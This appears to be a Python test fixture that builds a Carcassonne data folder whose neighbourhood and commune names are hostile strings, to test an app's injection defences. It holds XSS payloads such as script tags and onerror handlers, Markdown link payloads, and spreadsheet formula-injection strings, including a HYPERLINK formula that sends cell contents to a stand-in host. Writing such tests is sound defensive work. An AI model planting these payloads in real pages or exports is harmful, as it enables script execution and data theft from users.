"""Hostile names for the injection tests, and a data folder whose updated territory carries them.

A territory updated online is a ``primary/<KIND>-<CODE>/`` folder of the user data directory with the
bundle's tables (``loaders/store.py``): its rows replace the bundle's. Names in it come from downloaded
files, so a poisoned source can put markup or formulas there. ``build_hostile_overlay`` writes such a
folder from the bundle's own rows, with only the names changed.
"""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd

#: Carcassonne: five QPV 2024 and five QPV 2015 with contours in the bundle (few polygons to hover in the
#: browser); the hostile names go to the QPV 2024 first (the generation the maps show by default).
TERRITORY = "COM:11069"
INSEE_COM = "11069"

#: Markup that would run if inserted as HTML, and a link scheme that must never become an address.
HTML_PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    "</script><script>alert(2)</script>",
)
HOSTILE_COMMUNE = "<img src=y onerror=alert('commune')>"
HOSTILE_EPCI = "<b onmouseover=alert('epci')>Agglo</b>"
#: Markdown that Streamlit would interpret (link, emphasis, colour directive, maths).
MARKDOWN_PAYLOADS = ("[clic](javascript:alert(1))", "**gras** :red[rouge] $x^2$")

#: Texts that spreadsheets read as formulas (CSV/XLSX injection), then the tab and carriage-return starts.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://exemple.invalid/?q="&A1,"clic")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)


def hostile_names(count: int) -> list[str]:
    """``count`` distinct hostile quartier names (HTML first, then markdown, then formulas)."""
    pool = list(HTML_PAYLOADS) + list(MARKDOWN_PAYLOADS) + list(FORMULA_PAYLOADS)
    return [pool[i % len(pool)] + ("" if i < len(pool) else f" {i}") for i in range(count)]


def _renamed(rows: pd.DataFrame, names: list[str] | None) -> pd.DataFrame:
    """``rows`` with ``names`` as ``lib_qp``, quartiers with a contour (drawn on maps) first."""
    rows = rows.sort_values(["a_contour", "code_qp"], ascending=[False, True]).copy()
    chosen = list(names or hostile_names(len(rows)))
    rows["lib_qp"] = [chosen[i % len(chosen)] + ("" if i < len(chosen) else f" {i}") for i in range(len(rows))]
    return rows


def build_hostile_overlay(data_dir: Path, names: list[str] | None = None, commune: str = HOSTILE_COMMUNE,
                          epci: str = HOSTILE_EPCI, bundle_dir: Path | None = None) -> dict[str, str]:
    """Write ``data_dir/primary/COM-11069/`` with hostile names; returns ``{code_qp: lib_qp}`` written.

    ``names`` are given to the quartiers in order, those with a contour (drawn on maps) first; by
    default :func:`hostile_names`.
    """
    import settings
    from sources import store

    bundle_dir = Path(bundle_dir or settings.BUNDLE_DIR)
    folder = Path(data_dir) / "primary" / f"COM-{INSEE_COM}"
    folder.mkdir(parents=True, exist_ok=True)

    qpv = store.table("qpv", folder=bundle_dir)
    rows = qpv[qpv["insee_com"] == INSEE_COM].copy()
    assert len(rows) >= 3, "Carcassonne should have several QPV in the bundle"
    rows = _renamed(rows, names)
    rows["lib_com"] = commune
    rows["lib_epci"] = epci
    rows.to_parquet(folder / "qpv.parquet", index=False)

    communes = store.table("communes", folder=bundle_dir)
    row = communes[communes["insee_com"] == INSEE_COM].copy()
    row["lib_com"] = commune
    row["lib_epci"] = epci
    row.to_parquet(folder / "communes.parquet", index=False)

    manifest = {"territoire": TERRITORY, "libelle": commune, "construit_le": "2026-12-01T00:00:00+00:00",
                "sources": []}
    (folder / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False), encoding="utf-8")
    return dict(zip(rows["code_qp"], rows["lib_qp"], strict=True))


def hostile_table(names: list[str] | None = None) -> pd.DataFrame:
    """Carcassonne's territory table (bundle only) with hostile quartier and commune names."""
    from geodata import territories
    from assembly.territory_table import territory_table

    table = _renamed(territory_table(territories.resolve_key(TERRITORY)), names)
    table["lib_com"] = HOSTILE_COMMUNE
    return table.reset_index(drop=True)
